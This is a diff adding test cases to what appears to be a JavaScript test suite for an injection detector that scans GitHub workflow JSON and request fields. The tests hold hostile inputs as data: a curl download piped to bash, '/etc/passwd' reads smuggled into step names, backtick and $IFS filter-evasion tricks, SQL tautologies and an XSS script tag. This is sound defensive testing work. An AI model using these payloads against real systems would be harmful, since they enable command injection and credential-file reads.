@@ -1880,4 +1880,25 @@ t.test("twenty-seventh round (the evaluation snapshots' GitHub workflows, as JSO
   t.ok(json(workflow({ run: 'curl -s https://203.0.113.7/x.sh | bash' })).includes('rce'), 'a download piped to a shell still counts')
   t.ok(json(workflow({ name: "x'; cat /etc/passwd; echo '", run: 'npm test' })).includes('rce'), "an injection into a step's name still counts")
   t.ok(json({ if: "1' or '1'='1", steps: 'x' }).includes('sqli'), 'an `if` outside a workflow is read')
+  t.ok(json({ ...workflow({ run: 'npm test' }), if: "1' or '1'='1" }).includes('sqli'), "an `if` a workflow does not put there is read")
+  t.ok(json(workflow({ name: "1' or '1'='1", if: "1' or '1'='1", run: 'npm test' })).includes('sqli'), 'an `if` written elsewhere too is read')
+  t.ok(json(workflow({ uses: 'actions/cache@v4', with: { key: "x${{ '; cat /etc/passwd' }}" } })).includes('rce'), "a `${{ … }}` with a shell's metacharacters is read")
+})
+
+t.test("twenty-seventh round, review: a substitution's own quoting is no GNU quotation, an empty pair opening the value, $IFS between quoted words, a request's `pattern` beside a schema's keys", async (t) => {
+  // an apostrophe glued to more of the word inside backticks is the shell's quoting; the substitution still runs
+  for (const v of ["`cat /et'c/passwd'`", ";`cat /etc'/'passwd`", "`sleep 1'0'`", "1|`sleep 5'.'0`", "`ping -c'10' 127.0.0.1`", "`perl -e'exec qw(id)'`", "x`uname -'a'`"]) t.ok(q(v).includes('rce'), v)
+  t.same(json({ text: "they should use `perl' (which depends on `perl-modules-5.xx') instead; `time' reports and `swapon -a'." }), [], 'GNU quotations still are none')
+  // an empty pair of backticks opening the value expands to nothing before the command
+  for (const v of ['``id``', '``sleep 5``']) t.ok(q(v).includes('rce'), v)
+  t.same(json({ description: 'or as a ``dict``-like structure with a single key ``find``' }), [], "reStructuredText's literals in text still are none")
+  // $IFS between quoted words is unquoted, it parts them
+  for (const v of ["'cat'$IFS'/etc/passwd'", ';"cat"$IFS"/etc/passwd"', ";'ls'$IFS'-la'"]) t.ok(q(v).includes('rce'), v)
+  t.same(q('get their argument split at "$IFS" whitespaces by the shell'), [], '"$IFS" named in prose still is none')
+  // a request's own `pattern` field is read whatever schema keywords are sent beside it
+  t.ok(json({ pattern: '; cat /etc/passwd', $ref: '#' }).includes('rce'), 'beside $ref')
+  t.ok(json({ pattern: '<script>alert(1)</script>', additionalProperties: false }).includes('xss'), 'beside additionalProperties')
+  t.ok(json({ filter: { type: 'string', pattern: 'a;id' }, $ref: 'x' }).includes('rce'), "in an object that is no schema's subschema")
+  t.ok(json({ properties: { a: { type: 'string', pattern: '; id' } }, $ref: '#', filter: '; id' }).includes('rce'), "the same text in another field than a subschema's pattern")
+  t.same(json({ $schema: 'http://json-schema.org/draft-07/schema#', type: 'object', properties: { Names: { type: 'array', items: { type: 'string', pattern: '^Y|M|W|D$' } }, Keys: { type: 'object', propertyNames: { pattern: '^(a|b|c)$' } } } }), [], "a schema's patterns still are skipped, in items and propertyNames too")
 })
